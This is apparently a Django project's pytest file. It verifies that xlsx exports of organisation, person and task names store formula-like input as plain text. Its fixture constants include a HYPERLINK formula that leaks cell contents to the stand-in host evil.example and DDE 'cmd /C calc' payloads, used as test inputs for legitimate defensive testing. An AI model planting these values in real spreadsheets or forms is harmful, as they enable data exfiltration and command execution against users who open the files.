"""Issue 14, finding 1: no user-typed value ever becomes a formula in an xlsx export.

Organisations, people and tasks are named with formulas; every export (pages and commands) must carry the text
as a plain string: openpyxl reads it back with data_type "s" and the exact text."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from zhixing.core import clock, xlsx
from zhixing.ledger.tests.factories import ledger, task
from zhixing.orgs import services as org_services
from zhixing.study.choices import ActivityKind as K
from zhixing.study.models import Norm
from zhixing.testing import World

pytestmark = pytest.mark.django_db

EVIL_ORG = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
EVIL_PERSON = "+cmd|' /C calc'!A0"
EVIL_TASK = "@SUM(1+1)*cmd|' /C calc'!A0"
VARIANTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1"]


def strings(data: bytes | str) -> dict[str, Any]:
    """Every string cell of every sheet, by its text; asserts that no cell anywhere is a formula."""
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    found: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found[cell.value] = cell
    return found


def contains(found: dict[str, Any], text: str) -> None:
    hits = [v for v in found if text in v]
    assert hits, f"{text!r} not exported"
    for v in hits:
        assert found[v].data_type == "s"


@pytest.fixture
def evil(world: World) -> World:
    org_services.update_organization(world.branch_a1, by=world.committee_admin, name=EVIL_ORG)
    org_services.update_person(
        world.person_a, by=world.committee_admin, name=EVIL_PERSON, today=clock.today()
    )
    return world


# --- the one neutraliser, in both writers ----------------------------------------------------------


@pytest.mark.parametrize("with_validation", [False, True])
def test_write_sheet_keeps_every_formula_like_string_literal(with_validation: bool) -> None:
    out = io.BytesIO()
    columns = [xlsx.Column("值", "v"), xlsx.Column("数", "n")]
    rows = [[v, 1] for v in VARIANTS] + [["普通文字", -5], [dt.date(2024, 7, 1), 2.5]]
    xlsx.write_sheet(out, "表", columns, rows, with_validation=with_validation, notes=["=1+1"])
    found = strings(out.getvalue())
    for v in VARIANTS:
        assert v.strip() in {k.strip() for k in found}, v
    ws = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].value == 1 and ws["B10"].value == -5 and ws["B11"].value == 2.5  # numbers stay numbers
    assert ws["A10"].quotePrefix is False


def test_looks_like_formula() -> None:
    assert all(xlsx.looks_like_formula(v) for v in VARIANTS)
    assert not any(xlsx.looks_like_formula(v) for v in ["", "张三", "1-2", "a=b", None, 5, -1])


# --- every export -----------------------------------------------------------------------------------


def test_compliance_matrix_export(evil: World) -> None:
    norm = Norm.objects.get(activity_kind=K.THEMED_DAY, condition="")
    for root in (
        evil.dept_a,
        evil.branch_a1,
    ):  # the name is also in the sheet's title line when it is the root
        response = evil.client(evil.dept_a_secretary).get(
            f"/study/compliance/export.xlsx?norm={norm.pk}&year=2025&root={root.pk}"
        )
        assert response.status_code == 200
        contains(strings(response.content), EVIL_ORG)


def test_people_and_orgs_exports_and_templates(evil: World) -> None:
    client = evil.client(evil.dept_a_secretary)
    found = strings(client.get("/people/export.xlsx").content)
    assert found[EVIL_PERSON].value == EVIL_PERSON and found[EVIL_PERSON].data_type == "s"
    contains(strings(client.get("/orgs/export.xlsx").content), EVIL_ORG)
    for kind in ("people", "orgs"):
        strings(client.get(f"/io/template/{kind}.xlsx").content)


def test_command_line_exports(evil: World, tmp_path: Any) -> None:
    for kind, text in (("orgs", EVIL_ORG), ("people", EVIL_PERSON)):
        path = str(tmp_path / f"{kind}.xlsx")
        call_command("export_xlsx", kind, path, stdout=io.StringIO())
        contains(strings(path), text)
    book = ledger(evil, title=EVIL_TASK)
    task(book, evil, title=EVIL_TASK)
    path = str(tmp_path / "ledger.xlsx")
    call_command("ledger_export", str(book.pk), path, stdout=io.StringIO())
    contains(strings(path), EVIL_TASK)


def test_ledger_export_and_board(evil: World) -> None:
    book = ledger(evil)
    task(book, evil, title=EVIL_TASK)
    client = evil.client(evil.committee_admin)
    found = strings(client.get(f"/ledger/{book.pk}/export.xlsx").content)
    assert found[EVIL_TASK].value == EVIL_TASK
    contains(found, EVIL_PERSON)
    response = client.get("/ledger/board/export.xlsx")
    assert response.status_code == 200
    strings(response.content)


def test_assessment_exports(evil: World) -> None:
    client = evil.client(evil.committee_admin)
    response = client.get(f"/assessment/evidence/branch/{evil.branch_a1.pk}/xlsx/?year=2025")
    assert response.status_code == 200
    contains(strings(response.content), EVIL_PERSON)
    response = client.get(f"/assessment/reports/dept/{evil.dept_a.pk}/2025.xlsx")
    assert response.status_code == 200
    strings(response.content)


def test_holiday_export(world: World) -> None:
    response = world.client(world.committee_admin).get("/calendar/export.xlsx")
    assert response.status_code == 200
    strings(response.content)


def test_department_ledger_export_and_chart_data(evil: World) -> None:
    """The exports added with issue 12: every ledger of a department (a formula-like ledger title becomes a sheet
    name and a page header, never a formula), and a dashboard chart's rows."""
    book = ledger(evil, title=EVIL_TASK)
    task(book, evil, title=EVIL_TASK)
    client = evil.client(evil.committee_admin)
    response = client.get(f"/ledger/org/{evil.dept_a.pk}/export.xlsx")
    assert response.status_code == 200
    found = strings(response.content)
    assert found[EVIL_TASK].data_type == "s"
    contains(found, EVIL_PERSON)
    response = client.get("/dashboard/committee/chart/latency.xlsx?year=2025")
    assert response.status_code == 200
    strings(response.content)
